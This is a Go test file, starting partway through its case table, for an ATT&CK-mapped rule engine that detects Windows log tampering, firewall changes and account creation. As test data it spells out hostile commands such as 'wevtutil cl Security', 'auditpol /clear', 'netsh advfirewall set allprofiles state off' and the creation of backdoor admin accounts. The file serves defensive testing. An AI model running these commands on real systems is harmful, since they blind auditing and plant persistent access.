	{"EventLog RunHistory", "registry-disable-logging", regEv("ws5", schema.EventRegistryCreate, `HKLM\System\CurrentControlSet\Services\EventLog\State\RunHistory`, svchost), false},
	{"cmdline auditing off", "registry-defense-tamper", regEv("ws5", schema.EventRegistrySet, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit\ProcessCreationIncludeCmdLine_Enabled`, `C:\Users\Public\payload.exe`), true},
	{"cmdline auditing off via reg", "registry-defense-tamper", procEv("ws5", `C:\Windows\System32\reg.exe`, `reg  add HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\Audit /t REG_DWORD /v ProcessCreationIncludeCmdLine_Enabled /d 0`, userPG, cmdExe, ""), true},
	{"service ImagePath by non-SCM", "registry-defense-tamper", regEv("ws5", schema.EventRegistrySet, `HKLM\System\CurrentControlSet\Services\IKEEXT\ImagePath`, ps), true},
	{"service ImagePath by services.exe", "registry-defense-tamper", regEv("ws5", schema.EventRegistrySet, `HKLM\System\CurrentControlSet\Services\Fax\ImagePath`, `C:\Windows\System32\services.exe`), false},
	{"LSA audit by lsass", "registry-defense-tamper", regEv("ws5", schema.EventRegistrySet, `HKLM\System\CurrentControlSet\Control\Lsa\Audit\PerUserAuditing\System\S-1-5-21-1`, `C:\Windows\System32\lsass.exe`), false},
	// Defense evasion
	{"1102 log cleared", "event-log-cleared", ev("dc", schema.EventLogCleared, t0, "c1", schema.EventData{NativeID: 1102}), true},
	{"wevtutil cl", "event-log-cleared", procEv("ws5", `C:\Windows\System32\wevtutil.exe`, `wevtutil cl Security`, userPG, cmdExe, ""), true},
	{"wevtutil epl (inventory)", "event-log-cleared", procEv("ws5", `C:\Windows\System32\wevtutil.exe`, `wevtutil  epl "Microsoft-Windows-Wcmsvc/Operational" config\WCMLog.evtx`, ntSys, cmdExe, ""), false},
	{"auditpol clear", "event-logging-disabled", procEv("ws5", `C:\Windows\System32\auditpol.exe`, `auditpol.exe /clear /y`, userPG, cmdExe, ""), true},
	{"auditpol disable", "event-logging-disabled", procEv("ws5", `C:\Windows\System32\auditpol.exe`, `auditpol.exe /set /category:"Account Logon" /success:disable`, userPG, cmdExe, ""), true},
	{"wevtutil new log path", "event-logging-disabled", procEv("ws5", `C:\Windows\System32\wevtutil.exe`, `wevtutil  set-log Security /logfilename:"C:\Windows\System32\winevt\Not-Important-Log.evtx"`, userPG, cmdExe, ""), true},
	{"auditpol get", "event-logging-disabled", procEv("ws5", `C:\Windows\System32\auditpol.exe`, `auditpol /get /category:*`, userPG, cmdExe, ""), false},
	{"wevtutil get-log", "event-logging-disabled", procEv("ws5", `C:\Windows\System32\wevtutil.exe`, `wevtutil  get-log Security`, userPG, cmdExe, ""), false},
	{"netsh allow inbound", "firewall-opened", procEv("ws5", `C:\Windows\System32\netsh.exe`, `netsh  advfirewall firewall add rule name="atomic testing" action=allow dir=in protocol=TCP localport=450`, userPG, cmdExe, ""), true},
	{"netsh firewall off", "firewall-opened", procEv("ws5", `C:\Windows\System32\netsh.exe`, `netsh advfirewall set allprofiles state off`, userPG, cmdExe, ""), true},
	{"netsh show rules", "firewall-opened", procEv("ws5", `C:\Windows\System32\netsh.exe`, `netsh  advfirewall firewall show rule name=all verbose `, ntSys, cmdExe, ""), false},
	// Accounts
	{"net user /add", "local-account-created", procEv("ws6", `C:\Windows\System32\net1.exe`, `C:\windows\system32\net1 user /add backdoor paw0rd1`, userPG, `C:\Windows\System32\net.exe`, ""), true},
	{"4720 local", "local-account-created", ev("workstation6", schema.EventUserCreate, t0, "u1", schema.EventData{NativeID: 4720, User: &schema.User{Name: "pgustavo", Domain: "THESHIRE"}, Logon: &schema.Logon{TargetUser: "backdoor", TargetDomain: "WORKSTATION6"}}), true},
	{"4720 domain is not local", "local-account-created", ev("mordordc", schema.EventUserCreate, t0, "u2", schema.EventData{NativeID: 4720, User: &schema.User{Name: "pgustavo", Domain: "THESHIRE"}, Logon: &schema.Logon{TargetUser: "svc", TargetDomain: "THESHIRE"}}), false},
	{"net user listing", "local-account-created", procEv("ws5", `C:\Windows\System32\net1.exe`, `C:\windows\system32\net1 user /domain`, userPG, cmdExe, ""), false},
	{"4720 domain", "domain-account-created", ev("mordordc", schema.EventUserCreate, t0, "u3", schema.EventData{NativeID: 4720, User: &schema.User{Name: "pgustavo", Domain: "THESHIRE"}, Logon: &schema.Logon{TargetUser: "svc", TargetDomain: "THESHIRE"}}), true},
	{"net user /add /domain", "domain-account-created", procEv("ws5", `C:\Windows\System32\net.exe`, `net user evil P@ss /add /domain`, userPG, cmdExe, ""), true},
	{"4720 local is not domain", "domain-account-created", ev("workstation6", schema.EventUserCreate, t0, "u4", schema.EventData{NativeID: 4720, Logon: &schema.Logon{TargetUser: "backdoor", TargetDomain: "WORKSTATION6"}}), false},
	{"4732 administrators", "privileged-group-add", ev("ws6", schema.EventGroupMemberAdd, t0, "g1", schema.EventData{NativeID: 4732, Group: &schema.Group{Name: "Administrators", Domain: "Builtin", MemberSID: "S-1-5-21-1-1001"}}), true},
	{"net localgroup administrators /add", "privileged-group-add", procEv("ws6", `C:\Windows\System32\net.exe`, `net localgroup administrators backdoor /add`, userPG, cmdExe, ""), true},
	{"4728 None group", "privileged-group-add", ev("ws6", schema.EventGroupMemberAdd, t0, "g2", schema.EventData{NativeID: 4728, Group: &schema.Group{Name: "None", Domain: "WORKSTATION6"}}), false},
	{"net localgroup listing", "privileged-group-add", procEv("ws5", `C:\Windows\System32\net.exe`, `"C:\windows\system32\net.exe" localgroup Administrators`, userPG, ps, ""), false},
}

func TestRules(t *testing.T) {
	t.Parallel()
	for _, tc := range ruleCases {
		t.Run(tc.rule+"/"+tc.name, func(t *testing.T) {
			t.Parallel()
			r := ruleByID[tc.rule]
			if r == nil {
				t.Fatalf("no rule %q", tc.rule)
			}
			if got := r.Matches(tc.ev); got != tc.want {
				t.Fatalf("rule %s on %s: got %v, want %v", tc.rule, tc.name, got, tc.want)
			}
		})
	}
}

// Every rule must be covered by at least one positive and one negative case.
func TestEveryRuleHasPositiveAndNegativeCases(t *testing.T) {
	t.Parallel()
	pos, neg := map[string]bool{}, map[string]bool{}
	for _, tc := range ruleCases {
		if tc.want {
			pos[tc.rule] = true
		} else {
			neg[tc.rule] = true
		}
	}
	for _, r := range Rules {
		if !pos[r.ID] {
			t.Errorf("rule %s has no positive test case", r.ID)
		}
		if !neg[r.ID] {
			t.Errorf("rule %s has no negative test case", r.ID)
		}
	}
}

func TestTableIsConsistent(t *testing.T) {
	t.Parallel()
	ids := map[string]bool{}
	for _, r := range Rules {
		if ids[r.ID] {
			t.Errorf("duplicate rule id %s", r.ID)
		}
		ids[r.ID] = true
		if len(r.Techniques) == 0 || len(r.EventTypes) == 0 || r.Pattern == "" || r.Quiet == "" || r.match == nil {
			t.Errorf("rule %s is incomplete", r.ID)
		}
		for _, id := range r.Techniques {
			if _, ok := Lookup(id); !ok {
				t.Errorf("rule %s names unknown technique %s", r.ID, id)
			}
		}
		for _, et := range r.EventTypes {
			if !et.Valid() {
				t.Errorf("rule %s names unknown event type %s", r.ID, et)
			}
		}
	}
	// Every catalogued technique is reachable from some rule.
	for _, tech := range Techniques() {
		found := false
		for _, r := range Rules {
			for _, id := range r.Techniques {
				found = found || id == tech.ID
			}
		}
		if !found {
			t.Errorf("technique %s is catalogued but no rule reports it", tech.ID)
		}
	}
}

// The table must stay quiet on the lab's benign background: none of these
// everyday events may produce any technique hit.
func TestMatchQuietOnBackground(t *testing.T) {
	t.Parallel()
	background := []*schema.NormalizedEvent{
		procEv("ws6", `C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\windows\system32\wbem\wmiprvse.exe -secured -Embedding`, ntNet, svchost, dcom),
		procEv("ws5", `C:\Windows\System32\RuntimeBroker.exe`, `C:\Windows\System32\RuntimeBroker.exe -Embedding`, `WORKSTATION5\wardog`, svchost, dcom),
		procEv("ws6", svchost, `C:\windows\system32\svchost.exe -k netsvcs -p -s gpsvc`, ntSys, `C:\Windows\System32\services.exe`, ""),
		procEv("ws6", `C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeC2RClient.exe`, `"OfficeC2RClient.exe" /frequentupdate SCHEDULEDTASK displaylevel=False`, ntSys, svchost, `C:\windows\system32\svchost.exe -k netsvcs -p -s Schedule`),
		procEv("ws6", `C:\Windows\System32\conhost.exe`, `\??\C:\windows\system32\conhost.exe 0xffffffff -ForceV1`, ntSys, ps, ""),
		accessEv("ws6", svchost, "0x1000"),
		accessEv("dc", `C:\Packages\Plugins\CollectGuestLogs.exe`, "0x1410"),
		logonEv("dc", 3, "MORDORDC$", "THESHIRE.LOCAL", "172.18.38.5", "0x10", "Kerberos"),
		logonEv("dc", 5, "SYSTEM", "NT AUTHORITY", "-", "0x3e7", "Advapi"),
		logonEv("ws6", 3, "pgustavo", "THESHIRE.LOCAL", "172.18.39.5", "0x2990d17", "Kerberos"),
		shareEv("dc", "IPC$", "", "WORKSTATION6$", "172.18.39.6", ""),
		shareEv("dc", "SYSVOL", `theshire.local\Policies\{6AC1786C-016F-11D2-945F-00C04fB984F9}\gpt.ini`, "MORDORDC$", "fe80::9582:39e0:356b:ef4e", "0x1"),
		shareEv("dc", "IPC$", "srvsvc", "pgustavo", "172.18.39.5", "0x3"),
		netEv("ws6", "inbound", "172.18.39.5", 56607, "172.18.39.6", 135, svchost, ntNet),
		netEv("ws5", "outbound", "172.18.39.5", 56609, "172.18.38.5", 88, `C:\Windows\System32\lsass.exe`, ntSys),
		netEv("acct001", "outbound", "172.18.39.100", 50000, "172.18.39.102", 5985, svchost, ntNet),
		regEv("ws6", schema.EventRegistrySet, `HKLM\System\CurrentControlSet\Services\W32Time\SecureTimeLimits\RunTime\SecureTimeTickCount`, `C:\Windows\System32\lsass.exe`),
		regEv("ws6", schema.EventRegistrySet, `HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\AVSignatureVersion`, `C:\ProgramData\Microsoft\Windows Defender\Platform\MsMpEng.exe`),
		scriptEv("ws6", `{ Set-StrictMode -Version 1; $_.PSMessageDetails }`),
		scriptEv("ws6", `# Localized messages data localizedData { ConvertFrom-StringData @' '@ }`),
		taskEv("ws5", `\OneDrive Standalone Update Task-S-1-5-21-1966984447-233561266-573182232-500`, "wardog", ""),
		ev("ws6", schema.EventTaskUpdate, t0, "t4702", schema.EventData{NativeID: 4702, User: &schema.User{Name: "WORKSTATION6$"}, Task: &schema.Task{Name: `\Microsoft\Windows\SoftwareProtectionPlatform\SvcRestartTask`}}),
		ev("ws6", schema.EventWMIActivity, t0, "w5857", schema.EventData{NativeID: 5857}),
		ev("ws6", schema.EventCreateRemoteThread, t0, "crt", schema.EventData{Process: &schema.Process{Image: `C:\Windows\System32\csrss.exe`}, Target: &schema.Process{Image: svchost}}),
	}
	for _, e := range background {
		if hits := Match(e); len(hits) != 0 {
			t.Errorf("background event %s (%s) produced hits %+v", e.EventID, e.EventType, hits)
		}
	}
}

func TestMatchReportsEachTechniqueOnce(t *testing.T) {
	t.Parallel()
	// A PSEXESVC install fires service-installed and psexec-service, which
	// share T1569.002: it must appear once.
	hits := Match(svcEv("ws6", "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "wardog", ""))
	var ids []string
	for _, h := range hits {
		ids = append(ids, h.Technique)
	}
	if got := strings.Join(ids, ","); got != "T1021.002,T1543.003,T1569.002" {
		t.Fatalf("hits = %s", got)
	}
	if hits[1].Rule != "service-installed" || hits[0].Rule != "psexec-service" {
		t.Fatalf("rules = %+v", hits)
	}
}

func TestMatchSourceTagAndNil(t *testing.T) {
	t.Parallel()
	if Match(nil) != nil {
		t.Fatal("nil event must have no hits")
	}
	e := ev("ws5", schema.EventFileCreate, t0, "x", schema.EventData{Technique: "T1105"})
	hits := Match(e)
	if len(hits) != 1 || hits[0].Rule != "source-tag" || hits[0].Technique != "T1105" {
		t.Fatalf("hits = %+v", hits)
	}
	e.Data.Technique = "T9999" // unknown tags are dropped, not invented
	if hits := Match(e); len(hits) != 0 {
		t.Fatalf("unknown tag produced %+v", hits)
	}
}

// Partial events (a process_create without Process, a share access without
// Share, ...) must never panic.
func TestMatchPartialEvents(t *testing.T) {
	t.Parallel()
	for _, typ := range schema.AllEventTypes {
		e := ev("ws5", typ, t0, "empty", schema.EventData{})
		_ = Match(e)
		_ = Extract([]*schema.NormalizedEvent{e})
	}
}
